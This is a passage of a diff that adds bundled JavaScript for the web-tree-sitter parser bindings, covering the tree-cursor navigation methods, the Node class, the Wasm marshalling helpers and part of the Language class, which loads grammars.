+    return result === 1;
+  }
+  /**
+   * Move this cursor to the next sibling of its current node.
+   *
+   * This returns `true` if the cursor successfully moved, and returns
+   * `false` if there was no next sibling node.
+   *
+   * Note that the node the cursor was constructed with is considered the root
+   * of the cursor, and the cursor cannot walk outside this node.
+   */
+  gotoNextSibling() {
+    marshalTreeCursor(this);
+    const result = C._ts_tree_cursor_goto_next_sibling_wasm(this.tree[0]);
+    unmarshalTreeCursor(this);
+    return result === 1;
+  }
+  /**
+   * Move this cursor to the previous sibling of its current node.
+   *
+   * This returns `true` if the cursor successfully moved, and returns
+   * `false` if there was no previous sibling node.
+   *
+   * Note that this function may be slower than
+   * {@link TreeCursor#gotoNextSibling} due to how node
+   * positions are stored. In the worst case, this will need to iterate
+   * through all the children up to the previous sibling node to recalculate
+   * its position. Also note that the node the cursor was constructed with is
+   * considered the root of the cursor, and the cursor cannot walk outside this node.
+   */
+  gotoPreviousSibling() {
+    marshalTreeCursor(this);
+    const result = C._ts_tree_cursor_goto_previous_sibling_wasm(this.tree[0]);
+    unmarshalTreeCursor(this);
+    return result === 1;
+  }
+  /**
+   * Move the cursor to the node that is the nth descendant of
+   * the original node that the cursor was constructed with, where
+   * zero represents the original node itself.
+   */
+  gotoDescendant(goalDescendantIndex) {
+    marshalTreeCursor(this);
+    C._ts_tree_cursor_goto_descendant_wasm(this.tree[0], goalDescendantIndex);
+    unmarshalTreeCursor(this);
+  }
+  /**
+   * Move this cursor to the first child of its current node that contains or
+   * starts after the given byte offset.
+   *
+   * This returns `true` if the cursor successfully moved to a child node, and returns
+   * `false` if no such child was found.
+   */
+  gotoFirstChildForIndex(goalIndex) {
+    marshalTreeCursor(this);
+    C.setValue(TRANSFER_BUFFER + SIZE_OF_CURSOR, goalIndex, "i32");
+    const result = C._ts_tree_cursor_goto_first_child_for_index_wasm(this.tree[0]);
+    unmarshalTreeCursor(this);
+    return result === 1;
+  }
+  /**
+   * Move this cursor to the first child of its current node that contains or
+   * starts after the given position.
+   *
+   * This returns `true` if the cursor successfully moved to a child node, and returns
+   * `false` if no such child was found.
+   */
+  gotoFirstChildForPosition(goalPosition) {
+    marshalTreeCursor(this);
+    marshalPoint(TRANSFER_BUFFER + SIZE_OF_CURSOR, goalPosition);
+    const result = C._ts_tree_cursor_goto_first_child_for_position_wasm(this.tree[0]);
+    unmarshalTreeCursor(this);
+    return result === 1;
+  }
+  /**
+   * Re-initialize this tree cursor to start at the original node that the
+   * cursor was constructed with.
+   */
+  reset(node) {
+    marshalNode(node);
+    marshalTreeCursor(this, TRANSFER_BUFFER + SIZE_OF_NODE);
+    C._ts_tree_cursor_reset_wasm(node.tree[0]);
+    unmarshalTreeCursor(this);
+    this.tree = node.tree;
+  }
+  /**
+   * Re-initialize a tree cursor to the same position as another cursor.
+   *
+   * Unlike {@link TreeCursor#reset}, this will not lose parent
+   * information and allows reusing already created cursors.
+   */
+  resetTo(cursor) {
+    marshalTreeCursor(this, TRANSFER_BUFFER);
+    marshalTreeCursor(cursor, TRANSFER_BUFFER + SIZE_OF_CURSOR);
+    C._ts_tree_cursor_reset_to_wasm(this.tree[0], cursor.tree[0]);
+    unmarshalTreeCursor(this);
+    this.tree = cursor.tree;
+  }
+};
+
+// src/node.ts
+var Node = class {
+  static {
+    __name(this, "Node");
+  }
+  /** @internal */
+  // @ts-expect-error: never read
+  [0] = 0;
+  // Internal handle for Wasm
+  /** @internal */
+  _children;
+  /** @internal */
+  _namedChildren;
+  /** @internal */
+  constructor(internal, {
+    id,
+    tree,
+    startIndex,
+    startPosition,
+    other
+  }) {
+    assertInternal(internal);
+    this[0] = other;
+    this.id = id;
+    this.tree = tree;
+    this.startIndex = startIndex;
+    this.startPosition = startPosition;
+  }
+  /**
+   * The numeric id for this node that is unique.
+   *
+   * Within a given syntax tree, no two nodes have the same id. However:
+   *
+   * * If a new tree is created based on an older tree, and a node from the old tree is reused in
+   *   the process, then that node will have the same id in both trees.
+   *
+   * * A node not marked as having changes does not guarantee it was reused.
+   *
+   * * If a node is marked as having changed in the old tree, it will not be reused.
+   */
+  id;
+  /** The byte index where this node starts. */
+  startIndex;
+  /** The position where this node starts. */
+  startPosition;
+  /** The tree that this node belongs to. */
+  tree;
+  /** Get this node's type as a numerical id. */
+  get typeId() {
+    marshalNode(this);
+    return C._ts_node_symbol_wasm(this.tree[0]);
+  }
+  /**
+   * Get the node's type as a numerical id as it appears in the grammar,
+   * ignoring aliases.
+   */
+  get grammarId() {
+    marshalNode(this);
+    return C._ts_node_grammar_symbol_wasm(this.tree[0]);
+  }
+  /** Get this node's type as a string. */
+  get type() {
+    return this.tree.language.types[this.typeId] || "ERROR";
+  }
+  /**
+   * Get this node's symbol name as it appears in the grammar, ignoring
+   * aliases as a string.
+   */
+  get grammarType() {
+    return this.tree.language.types[this.grammarId] || "ERROR";
+  }
+  /**
+   * Check if this node is *named*.
+   *
+   * Named nodes correspond to named rules in the grammar, whereas
+   * *anonymous* nodes correspond to string literals in the grammar.
+   */
+  get isNamed() {
+    marshalNode(this);
+    return C._ts_node_is_named_wasm(this.tree[0]) === 1;
+  }
+  /**
+   * Check if this node is *extra*.
+   *
+   * Extra nodes represent things like comments, which are not required
+   * by the grammar, but can appear anywhere.
+   */
+  get isExtra() {
+    marshalNode(this);
+    return C._ts_node_is_extra_wasm(this.tree[0]) === 1;
+  }
+  /**
+   * Check if this node represents a syntax error.
+   *
+   * Syntax errors represent parts of the code that could not be incorporated
+   * into a valid syntax tree.
+   */
+  get isError() {
+    marshalNode(this);
+    return C._ts_node_is_error_wasm(this.tree[0]) === 1;
+  }
+  /**
+   * Check if this node is *missing*.
+   *
+   * Missing nodes are inserted by the parser in order to recover from
+   * certain kinds of syntax errors.
+   */
+  get isMissing() {
+    marshalNode(this);
+    return C._ts_node_is_missing_wasm(this.tree[0]) === 1;
+  }
+  /** Check if this node has been edited. */
+  get hasChanges() {
+    marshalNode(this);
+    return C._ts_node_has_changes_wasm(this.tree[0]) === 1;
+  }
+  /**
+   * Check if this node represents a syntax error or contains any syntax
+   * errors anywhere within it.
+   */
+  get hasError() {
+    marshalNode(this);
+    return C._ts_node_has_error_wasm(this.tree[0]) === 1;
+  }
+  /** Get the byte index where this node ends. */
+  get endIndex() {
+    marshalNode(this);
+    return C._ts_node_end_index_wasm(this.tree[0]);
+  }
+  /** Get the position where this node ends. */
+  get endPosition() {
+    marshalNode(this);
+    C._ts_node_end_point_wasm(this.tree[0]);
+    return unmarshalPoint(TRANSFER_BUFFER);
+  }
+  /** Get the string content of this node. */
+  get text() {
+    return getText(this.tree, this.startIndex, this.endIndex, this.startPosition);
+  }
+  /** Get this node's parse state. */
+  get parseState() {
+    marshalNode(this);
+    return C._ts_node_parse_state_wasm(this.tree[0]);
+  }
+  /** Get the parse state after this node. */
+  get nextParseState() {
+    marshalNode(this);
+    return C._ts_node_next_parse_state_wasm(this.tree[0]);
+  }
+  /** Check if this node is equal to another node. */
+  equals(other) {
+    return this.tree === other.tree && this.id === other.id;
+  }
+  /**
+   * Get the node's child at the given index, where zero represents the first child.
+   *
+   * This method is fairly fast, but its cost is technically log(n), so if
+   * you might be iterating over a long list of children, you should use
+   * {@link Node#children} instead.
+   */
+  child(index) {
+    marshalNode(this);
+    C._ts_node_child_wasm(this.tree[0], index);
+    return unmarshalNode(this.tree);
+  }
+  /**
+   * Get this node's *named* child at the given index.
+   *
+   * See also {@link Node#isNamed}.
+   * This method is fairly fast, but its cost is technically log(n), so if
+   * you might be iterating over a long list of children, you should use
+   * {@link Node#namedChildren} instead.
+   */
+  namedChild(index) {
+    marshalNode(this);
+    C._ts_node_named_child_wasm(this.tree[0], index);
+    return unmarshalNode(this.tree);
+  }
+  /**
+   * Get this node's child with the given numerical field id.
+   *
+   * See also {@link Node#childForFieldName}. You can
+   * convert a field name to an id using {@link Language#fieldIdForName}.
+   */
+  childForFieldId(fieldId) {
+    marshalNode(this);
+    C._ts_node_child_by_field_id_wasm(this.tree[0], fieldId);
+    return unmarshalNode(this.tree);
+  }
+  /**
+   * Get the first child with the given field name.
+   *
+   * If multiple children may have the same field name, access them using
+   * {@link Node#childrenForFieldName}.
+   */
+  childForFieldName(fieldName) {
+    const fieldId = this.tree.language.fields.indexOf(fieldName);
+    if (fieldId !== -1) return this.childForFieldId(fieldId);
+    return null;
+  }
+  /** Get the field name of this node's child at the given index. */
+  fieldNameForChild(index) {
+    marshalNode(this);
+    const address = C._ts_node_field_name_for_child_wasm(this.tree[0], index);
+    if (!address) return null;
+    return C.AsciiToString(address);
+  }
+  /** Get the field name of this node's named child at the given index. */
+  fieldNameForNamedChild(index) {
+    marshalNode(this);
+    const address = C._ts_node_field_name_for_named_child_wasm(this.tree[0], index);
+    if (!address) return null;
+    return C.AsciiToString(address);
+  }
+  /**
+   * Get an array of this node's children with a given field name.
+   *
+   * See also {@link Node#children}.
+   */
+  childrenForFieldName(fieldName) {
+    const fieldId = this.tree.language.fields.indexOf(fieldName);
+    if (fieldId !== -1 && fieldId !== 0) return this.childrenForFieldId(fieldId);
+    return [];
+  }
+  /**
+    * Get an array of this node's children with a given field id.
+    *
+    * See also {@link Node#childrenForFieldName}.
+    */
+  childrenForFieldId(fieldId) {
+    marshalNode(this);
+    C._ts_node_children_by_field_id_wasm(this.tree[0], fieldId);
+    const count = C.getValue(TRANSFER_BUFFER, "i32");
+    const buffer = C.getValue(TRANSFER_BUFFER + SIZE_OF_INT, "i32");
+    const result = new Array(count);
+    if (count > 0) {
+      let address = buffer;
+      for (let i2 = 0; i2 < count; i2++) {
+        result[i2] = unmarshalNode(this.tree, address);
+        address += SIZE_OF_NODE;
+      }
+      C._free(buffer);
+    }
+    return result;
+  }
+  /** Get the node's first child that contains or starts after the given byte offset. */
+  firstChildForIndex(index) {
+    marshalNode(this);
+    const address = TRANSFER_BUFFER + SIZE_OF_NODE;
+    C.setValue(address, index, "i32");
+    C._ts_node_first_child_for_byte_wasm(this.tree[0]);
+    return unmarshalNode(this.tree);
+  }
+  /** Get the node's first named child that contains or starts after the given byte offset. */
+  firstNamedChildForIndex(index) {
+    marshalNode(this);
+    const address = TRANSFER_BUFFER + SIZE_OF_NODE;
+    C.setValue(address, index, "i32");
+    C._ts_node_first_named_child_for_byte_wasm(this.tree[0]);
+    return unmarshalNode(this.tree);
+  }
+  /** Get this node's number of children. */
+  get childCount() {
+    marshalNode(this);
+    return C._ts_node_child_count_wasm(this.tree[0]);
+  }
+  /**
+   * Get this node's number of *named* children.
+   *
+   * See also {@link Node#isNamed}.
+   */
+  get namedChildCount() {
+    marshalNode(this);
+    return C._ts_node_named_child_count_wasm(this.tree[0]);
+  }
+  /** Get this node's first child. */
+  get firstChild() {
+    return this.child(0);
+  }
+  /**
+   * Get this node's first named child.
+   *
+   * See also {@link Node#isNamed}.
+   */
+  get firstNamedChild() {
+    return this.namedChild(0);
+  }
+  /** Get this node's last child. */
+  get lastChild() {
+    return this.child(this.childCount - 1);
+  }
+  /**
+   * Get this node's last named child.
+   *
+   * See also {@link Node#isNamed}.
+   */
+  get lastNamedChild() {
+    return this.namedChild(this.namedChildCount - 1);
+  }
+  /**
+   * Iterate over this node's children.
+   *
+   * If you're walking the tree recursively, you may want to use the
+   * {@link TreeCursor} APIs directly instead.
+   */
+  get children() {
+    if (!this._children) {
+      marshalNode(this);
+      C._ts_node_children_wasm(this.tree[0]);
+      const count = C.getValue(TRANSFER_BUFFER, "i32");
+      const buffer = C.getValue(TRANSFER_BUFFER + SIZE_OF_INT, "i32");
+      this._children = new Array(count);
+      if (count > 0) {
+        let address = buffer;
+        for (let i2 = 0; i2 < count; i2++) {
+          this._children[i2] = unmarshalNode(this.tree, address);
+          address += SIZE_OF_NODE;
+        }
+        C._free(buffer);
+      }
+    }
+    return this._children;
+  }
+  /**
+   * Iterate over this node's named children.
+   *
+   * See also {@link Node#children}.
+   */
+  get namedChildren() {
+    if (!this._namedChildren) {
+      marshalNode(this);
+      C._ts_node_named_children_wasm(this.tree[0]);
+      const count = C.getValue(TRANSFER_BUFFER, "i32");
+      const buffer = C.getValue(TRANSFER_BUFFER + SIZE_OF_INT, "i32");
+      this._namedChildren = new Array(count);
+      if (count > 0) {
+        let address = buffer;
+        for (let i2 = 0; i2 < count; i2++) {
+          this._namedChildren[i2] = unmarshalNode(this.tree, address);
+          address += SIZE_OF_NODE;
+        }
+        C._free(buffer);
+      }
+    }
+    return this._namedChildren;
+  }
+  /**
+   * Get the descendants of this node that are the given type, or in the given types array.
+   *
+   * The types array should contain node type strings, which can be retrieved from {@link Language#types}.
+   *
+   * Additionally, a `startPosition` and `endPosition` can be passed in to restrict the search to a byte range.
+   */
+  descendantsOfType(types, startPosition = ZERO_POINT, endPosition = ZERO_POINT) {
+    if (!Array.isArray(types)) types = [types];
+    const symbols = [];
+    const typesBySymbol = this.tree.language.types;
+    for (let i2 = 0, n = typesBySymbol.length; i2 < n; i2++) {
+      if (types.includes(typesBySymbol[i2])) {
+        symbols.push(i2);
+      }
+    }
+    if (types.includes("ERROR")) {
+      symbols.push(65535);
+    }
+    const symbolsAddress = C._malloc(SIZE_OF_INT * symbols.length);
+    for (let i2 = 0, n = symbols.length; i2 < n; i2++) {
+      C.setValue(symbolsAddress + i2 * SIZE_OF_INT, symbols[i2], "i32");
+    }
+    marshalNode(this);
+    C._ts_node_descendants_of_type_wasm(
+      this.tree[0],
+      symbolsAddress,
+      symbols.length,
+      startPosition.row,
+      startPosition.column,
+      endPosition.row,
+      endPosition.column
+    );
+    const descendantCount = C.getValue(TRANSFER_BUFFER, "i32");
+    const descendantAddress = C.getValue(TRANSFER_BUFFER + SIZE_OF_INT, "i32");
+    const result = new Array(descendantCount);
+    if (descendantCount > 0) {
+      let address = descendantAddress;
+      for (let i2 = 0; i2 < descendantCount; i2++) {
+        result[i2] = unmarshalNode(this.tree, address);
+        address += SIZE_OF_NODE;
+      }
+    }
+    C._free(descendantAddress);
+    C._free(symbolsAddress);
+    return result;
+  }
+  /** Get this node's next sibling. */
+  get nextSibling() {
+    marshalNode(this);
+    C._ts_node_next_sibling_wasm(this.tree[0]);
+    return unmarshalNode(this.tree);
+  }
+  /** Get this node's previous sibling. */
+  get previousSibling() {
+    marshalNode(this);
+    C._ts_node_prev_sibling_wasm(this.tree[0]);
+    return unmarshalNode(this.tree);
+  }
+  /**
+   * Get this node's next *named* sibling.
+   *
+   * See also {@link Node#isNamed}.
+   */
+  get nextNamedSibling() {
+    marshalNode(this);
+    C._ts_node_next_named_sibling_wasm(this.tree[0]);
+    return unmarshalNode(this.tree);
+  }
+  /**
+   * Get this node's previous *named* sibling.
+   *
+   * See also {@link Node#isNamed}.
+   */
+  get previousNamedSibling() {
+    marshalNode(this);
+    C._ts_node_prev_named_sibling_wasm(this.tree[0]);
+    return unmarshalNode(this.tree);
+  }
+  /** Get the node's number of descendants, including one for the node itself. */
+  get descendantCount() {
+    marshalNode(this);
+    return C._ts_node_descendant_count_wasm(this.tree[0]);
+  }
+  /**
+   * Get this node's immediate parent.
+   * Prefer {@link Node#childWithDescendant} for iterating over this node's ancestors.
+   */
+  get parent() {
+    marshalNode(this);
+    C._ts_node_parent_wasm(this.tree[0]);
+    return unmarshalNode(this.tree);
+  }
+  /**
+   * Get the node that contains `descendant`.
+   *
+   * Note that this can return `descendant` itself.
+   */
+  childWithDescendant(descendant) {
+    marshalNode(this);
+    marshalNode(descendant, 1);
+    C._ts_node_child_with_descendant_wasm(this.tree[0]);
+    return unmarshalNode(this.tree);
+  }
+  /** Get the smallest node within this node that spans the given byte range. */
+  descendantForIndex(start2, end = start2) {
+    if (typeof start2 !== "number" || typeof end !== "number") {
+      throw new Error("Arguments must be numbers");
+    }
+    marshalNode(this);
+    const address = TRANSFER_BUFFER + SIZE_OF_NODE;
+    C.setValue(address, start2, "i32");
+    C.setValue(address + SIZE_OF_INT, end, "i32");
+    C._ts_node_descendant_for_index_wasm(this.tree[0]);
+    return unmarshalNode(this.tree);
+  }
+  /** Get the smallest named node within this node that spans the given byte range. */
+  namedDescendantForIndex(start2, end = start2) {
+    if (typeof start2 !== "number" || typeof end !== "number") {
+      throw new Error("Arguments must be numbers");
+    }
+    marshalNode(this);
+    const address = TRANSFER_BUFFER + SIZE_OF_NODE;
+    C.setValue(address, start2, "i32");
+    C.setValue(address + SIZE_OF_INT, end, "i32");
+    C._ts_node_named_descendant_for_index_wasm(this.tree[0]);
+    return unmarshalNode(this.tree);
+  }
+  /** Get the smallest node within this node that spans the given point range. */
+  descendantForPosition(start2, end = start2) {
+    if (!isPoint(start2) || !isPoint(end)) {
+      throw new Error("Arguments must be {row, column} objects");
+    }
+    marshalNode(this);
+    const address = TRANSFER_BUFFER + SIZE_OF_NODE;
+    marshalPoint(address, start2);
+    marshalPoint(address + SIZE_OF_POINT, end);
+    C._ts_node_descendant_for_position_wasm(this.tree[0]);
+    return unmarshalNode(this.tree);
+  }
+  /** Get the smallest named node within this node that spans the given point range. */
+  namedDescendantForPosition(start2, end = start2) {
+    if (!isPoint(start2) || !isPoint(end)) {
+      throw new Error("Arguments must be {row, column} objects");
+    }
+    marshalNode(this);
+    const address = TRANSFER_BUFFER + SIZE_OF_NODE;
+    marshalPoint(address, start2);
+    marshalPoint(address + SIZE_OF_POINT, end);
+    C._ts_node_named_descendant_for_position_wasm(this.tree[0]);
+    return unmarshalNode(this.tree);
+  }
+  /**
+   * Create a new {@link TreeCursor} starting from this node.
+   *
+   * Note that the given node is considered the root of the cursor,
+   * and the cursor cannot walk outside this node.
+   */
+  walk() {
+    marshalNode(this);
+    C._ts_tree_cursor_new_wasm(this.tree[0]);
+    return new TreeCursor(INTERNAL, this.tree);
+  }
+  /**
+   * Edit this node to keep it in-sync with source code that has been edited.
+   *
+   * This function is only rarely needed. When you edit a syntax tree with
+   * the {@link Tree#edit} method, all of the nodes that you retrieve from
+   * the tree afterward will already reflect the edit. You only need to
+   * use {@link Node#edit} when you have a specific {@link Node} instance that
+   * you want to keep and continue to use after an edit.
+   */
+  edit(edit) {
+    const { point, index } = edit.editPoint(this.startPosition, this.startIndex);
+    this.startPosition = point;
+    this.startIndex = index;
+  }
+  /** Get the S-expression representation of this node. */
+  toString() {
+    marshalNode(this);
+    const address = C._ts_node_to_string_wasm(this.tree[0]);
+    const result = C.AsciiToString(address);
+    C._free(address);
+    return result;
+  }
+};
+
+// src/marshal.ts
+function unmarshalCaptures(query, tree, address, patternIndex, result) {
+  for (let i2 = 0, n = result.length; i2 < n; i2++) {
+    const captureIndex = C.getValue(address, "i32");
+    address += SIZE_OF_INT;
+    const node = unmarshalNode(tree, address);
+    address += SIZE_OF_NODE;
+    result[i2] = { patternIndex, name: query.captureNames[captureIndex], node };
+  }
+  return address;
+}
+__name(unmarshalCaptures, "unmarshalCaptures");
+function marshalNode(node, index = 0) {
+  let address = TRANSFER_BUFFER + index * SIZE_OF_NODE;
+  C.setValue(address, node.id, "i32");
+  address += SIZE_OF_INT;
+  C.setValue(address, node.startIndex, "i32");
+  address += SIZE_OF_INT;
+  C.setValue(address, node.startPosition.row, "i32");
+  address += SIZE_OF_INT;
+  C.setValue(address, node.startPosition.column, "i32");
+  address += SIZE_OF_INT;
+  C.setValue(address, node[0], "i32");
+}
+__name(marshalNode, "marshalNode");
+function unmarshalNode(tree, address = TRANSFER_BUFFER) {
+  const id = C.getValue(address, "i32");
+  address += SIZE_OF_INT;
+  if (id === 0) return null;
+  const index = C.getValue(address, "i32");
+  address += SIZE_OF_INT;
+  const row = C.getValue(address, "i32");
+  address += SIZE_OF_INT;
+  const column = C.getValue(address, "i32");
+  address += SIZE_OF_INT;
+  const other = C.getValue(address, "i32");
+  const result = new Node(INTERNAL, {
+    id,
+    tree,
+    startIndex: index,
+    startPosition: { row, column },
+    other
+  });
+  return result;
+}
+__name(unmarshalNode, "unmarshalNode");
+function marshalTreeCursor({ handles }, address = TRANSFER_BUFFER) {
+  C.setValue(address + 0 * SIZE_OF_INT, handles[0], "i32");
+  C.setValue(address + 1 * SIZE_OF_INT, handles[1], "i32");
+  C.setValue(address + 2 * SIZE_OF_INT, handles[2], "i32");
+  C.setValue(address + 3 * SIZE_OF_INT, handles[3], "i32");
+}
+__name(marshalTreeCursor, "marshalTreeCursor");
+function unmarshalTreeCursor({ handles }) {
+  handles[0] = C.getValue(TRANSFER_BUFFER + 0 * SIZE_OF_INT, "i32");
+  handles[1] = C.getValue(TRANSFER_BUFFER + 1 * SIZE_OF_INT, "i32");
+  handles[2] = C.getValue(TRANSFER_BUFFER + 2 * SIZE_OF_INT, "i32");
+  handles[3] = C.getValue(TRANSFER_BUFFER + 3 * SIZE_OF_INT, "i32");
+}
+__name(unmarshalTreeCursor, "unmarshalTreeCursor");
+function marshalPoint(address, point) {
+  C.setValue(address, point.row, "i32");
+  C.setValue(address + SIZE_OF_INT, point.column, "i32");
+}
+__name(marshalPoint, "marshalPoint");
+function unmarshalPoint(address) {
+  const result = {
+    row: C.getValue(address, "i32") >>> 0,
+    column: C.getValue(address + SIZE_OF_INT, "i32") >>> 0
+  };
+  return result;
+}
+__name(unmarshalPoint, "unmarshalPoint");
+function marshalRange(address, range) {
+  marshalPoint(address, range.startPosition);
+  address += SIZE_OF_POINT;
+  marshalPoint(address, range.endPosition);
+  address += SIZE_OF_POINT;
+  C.setValue(address, range.startIndex, "i32");
+  address += SIZE_OF_INT;
+  C.setValue(address, range.endIndex, "i32");
+  address += SIZE_OF_INT;
+}
+__name(marshalRange, "marshalRange");
+function unmarshalRange(address) {
+  const result = {};
+  result.startPosition = unmarshalPoint(address);
+  address += SIZE_OF_POINT;
+  result.endPosition = unmarshalPoint(address);
+  address += SIZE_OF_POINT;
+  result.startIndex = C.getValue(address, "i32") >>> 0;
+  address += SIZE_OF_INT;
+  result.endIndex = C.getValue(address, "i32") >>> 0;
+  return result;
+}
+__name(unmarshalRange, "unmarshalRange");
+function marshalEdit(edit, address = TRANSFER_BUFFER) {
+  marshalPoint(address, edit.startPosition);
+  address += SIZE_OF_POINT;
+  marshalPoint(address, edit.oldEndPosition);
+  address += SIZE_OF_POINT;
+  marshalPoint(address, edit.newEndPosition);
+  address += SIZE_OF_POINT;
+  C.setValue(address, edit.startIndex, "i32");
+  address += SIZE_OF_INT;
+  C.setValue(address, edit.oldEndIndex, "i32");
+  address += SIZE_OF_INT;
+  C.setValue(address, edit.newEndIndex, "i32");
+  address += SIZE_OF_INT;
+}
+__name(marshalEdit, "marshalEdit");
+function unmarshalLanguageMetadata(address) {
+  const major_version = C.getValue(address, "i32");
+  const minor_version = C.getValue(address += SIZE_OF_INT, "i32");
+  const patch_version = C.getValue(address += SIZE_OF_INT, "i32");
+  return { major_version, minor_version, patch_version };
+}
+__name(unmarshalLanguageMetadata, "unmarshalLanguageMetadata");
+
+// src/language.ts
+var LANGUAGE_FUNCTION_REGEX = /^tree_sitter_\w+$/;
+var Language = class _Language {
+  static {
+    __name(this, "Language");
+  }
+  /** @internal */
+  [0] = 0;
+  // Internal handle for Wasm
+  /**
+   * A list of all node types in the language. The index of each type in this
+   * array is its node type id.
+   */
+  types;
+  /**
+   * A list of all field names in the language. The index of each field name in
+   * this array is its field id.
+   */
+  fields;
+  /** @internal */
+  constructor(internal, address) {
+    assertInternal(internal);
+    this[0] = address;
+    this.types = new Array(C._ts_language_symbol_count(this[0]));
+    for (let i2 = 0, n = this.types.length; i2 < n; i2++) {
+      if (C._ts_language_symbol_type(this[0], i2) < 2) {
+        this.types[i2] = C.UTF8ToString(C._ts_language_symbol_name(this[0], i2));
+      }
+    }
+    this.fields = new Array(C._ts_language_field_count(this[0]) + 1);
+    for (let i2 = 0, n = this.fields.length; i2 < n; i2++) {
+      const fieldName = C._ts_language_field_name_for_id(this[0], i2);
+      if (fieldName !== 0) {
+        this.fields[i2] = C.UTF8ToString(fieldName);
+      } else {
+        this.fields[i2] = null;
+      }
+    }
+  }
+  /**
+   * Gets the name of the language.
+   */
+  get name() {
+    const ptr = C._ts_language_name(this[0]);
+    if (ptr === 0) return null;
+    return C.UTF8ToString(ptr);
+  }
+  /**
+   * Gets the ABI version of the language.
+   */
+  get abiVersion() {
+    return C._ts_language_abi_version(this[0]);
+  }
+  /**
+  * Get the metadata for this language. This information is generated by the
+  * CLI, and relies on the language author providing the correct metadata in
+  * the language's `tree-sitter.json` file.
+  */
+  get metadata() {
+    C._ts_language_metadata_wasm(this[0]);
+    const length = C.getValue(TRANSFER_BUFFER, "i32");
+    if (length === 0) return null;
+    return unmarshalLanguageMetadata(TRANSFER_BUFFER + SIZE_OF_INT);
+  }
+  /**
+   * Gets the number of fields in the language.
+   */
+  get fieldCount() {
+    return this.fields.length - 1;
+  }
+  /**
+   * Gets the number of states in the language.
+   */
+  get stateCount() {
+    return C._ts_language_state_count(this[0]);
+  }
+  /**
+   * Get the field id for a field name.
+   */
+  fieldIdForName(fieldName) {
+    const result = this.fields.indexOf(fieldName);
+    return result !== -1 ? result : null;
+  }
+  /**
+   * Get the field name for a field id.
+   */
+  fieldNameForId(fieldId) {
+    return this.fields[fieldId] ?? null;
+  }
+  /**
+   * Get the node type id for a node type name.
+   */
+  idForNodeType(type, named) {
+    const typeLength = C.lengthBytesUTF8(type);
+    const typeAddress = C._malloc(typeLength + 1);
+    C.stringToUTF8(type, typeAddress, typeLength + 1);
+    const result = C._ts_language_symbol_for_name(this[0], typeAddress, typeLength, named ? 1 : 0);
+    C._free(typeAddress);
+    return result || null;
+  }
+  /**
+   * Gets the number of node types in the language.
+   */
+  get nodeTypeCount() {
+    return C._ts_language_symbol_count(this[0]);
+  }
+  /**
+   * Get the node type name for a node type id.
+   */
+  nodeTypeForId(typeId) {
+    const name2 = C._ts_language_symbol_name(this[0], typeId);
+    return name2 ? C.UTF8ToString(name2) : null;
+  }
+  /**
+   * Check if a node type is named.
+   *
+   * @see {@link https://tree-sitter.github.io/tree-sitter/using-parsers/2-basic-parsing.html#named-vs-anonymous-nodes}
+   */
+  nodeTypeIsNamed(typeId) {
+    return C._ts_language_type_is_named_wasm(this[0], typeId) ? true : false;
+  }
+  /**
+   * Check if a node type is visible.
+   */
+  nodeTypeIsVisible(typeId) {
+    return C._ts_language_type_is_visible_wasm(this[0], typeId) ? true : false;
+  }
+  /**
+   * Get the supertypes ids of this language.
+   *
+   * @see {@link https://tree-sitter.github.io/tree-sitter/using-parsers/6-static-node-types.html?highlight=supertype#supertype-nodes}
+   */
+  get supertypes() {
+    C._ts_language_supertypes_wasm(this[0]);
+    const count = C.getValue(TRANSFER_BUFFER, "i32");
+    const buffer = C.getValue(TRANSFER_BUFFER + SIZE_OF_INT, "i32");
+    const result = new Array(count);
+    if (count > 0) {
+      let address = buffer;
+      for (let i2 = 0; i2 < count; i2++) {
+        result[i2] = C.getValue(address, "i16");
+        address += SIZE_OF_SHORT;
+      }
+    }
+    return result;
+  }
+  /**
+   * Get the subtype ids for a given supertype node id.
+   */
+  subtypes(supertype) {
+    C._ts_language_subtypes_wasm(this[0], supertype);
+    const count = C.getValue(TRANSFER_BUFFER, "i32");
+    const buffer = C.getValue(TRANSFER_BUFFER + SIZE_OF_INT, "i32");
+    const result = new Array(count);
+    if (count > 0) {
+      let address = buffer;
+      for (let i2 = 0; i2 < count; i2++) {
+        result[i2] = C.getValue(address, "i16");
+        address += SIZE_OF_SHORT;
+      }
+    }
+    return result;
+  }
+  /**
+   * Get the next state id for a given state id and node type id.
+   */
+  nextState(stateId, typeId) {
+    return C._ts_language_next_state(this[0], stateId, typeId);
+  }
+  /**
+   * Create a new lookahead iterator for this language and parse state.
+   *
+   * This returns `null` if state is invalid for this language.
+   *
+   * Iterating {@link LookaheadIterator} will yield valid symbols in the given
+   * parse state. A newly created iterator is not positioned on a symbol, so
+   * {@link LookaheadIterator#currentType} returns `null` until the first
+   * iteration step.
+   *
+   * Lookahead iterators can be useful for generating suggestions and improving
+   * syntax error diagnostics. To get symbols valid in an `ERROR` node, use the
+   * lookahead iterator on its first leaf node state. For `MISSING` nodes, a
+   * lookahead iterator created on the previous non-extra leaf node may be
+   * appropriate.
+   */
+  lookaheadIterator(stateId) {
+    const address = C._ts_lookahead_iterator_new(this[0], stateId);
+    if (address) return new LookaheadIterator(INTERNAL, address, this);
+    return null;
+  }
+  /**
+   * Load a language from a WebAssembly module.
+   * The module can be provided as a path to a file, a `URL` to a file, or as a
+   * buffer.
+   */
+  static async load(input) {
+    let binary2;
+    if (input instanceof Uint8Array) {
+      binary2 = input;
+    } else if (globalThis.process?.versions.node) {
+      const fs2 = await Promise.resolve(/* import() */).then(__nccwpck_require__.t.bind(__nccwpck_require__, 1943, 23));
+      binary2 = await fs2.readFile(input);
+    } else {
+      const response = await fetch(input);
+      if (!response.ok) {
+        const body2 = await response.text();
+        throw new Error(`Language.load failed with status ${response.status}.
+
+${body2}`);
+      }
+      const retryResp = response.clone();
+      try {
+        binary2 = await WebAssembly.compileStreaming(response);
+      } catch (reason) {
+        console.error("wasm streaming compile failed:", reason);
+        console.error("falling back to ArrayBuffer instantiation");
+        binary2 = new Uint8Array(await retryResp.arrayBuffer());
+      }
+    }
+    const mod = await C.loadWebAssemblyModule(binary2, { loadAsync: true });
+    return _Language.loadFromWasmExports(mod, { sync: false });
+  }
+  static loadFromWasmExports(mod, { sync }) {
+    const symbolNames = Object.keys(mod);
+    const functionName = symbolNames.find((key) => LANGUAGE_FUNCTION_REGEX.test(key) && !key.includes("external_scanner_"));
+    if (!functionName) {
+      console.log(`Couldn't find language function in Wasm file. Symbols:
+${JSON.stringify(symbolNames, null, 2)}`);
+      throw new Error(`Language.${sync ? "loadSync" : "load"} failed: no language function found in Wasm file`);
+    }
+    const languageAddress = mod[functionName]();
+    return new _Language(INTERNAL, languageAddress);
+  }
+  /**
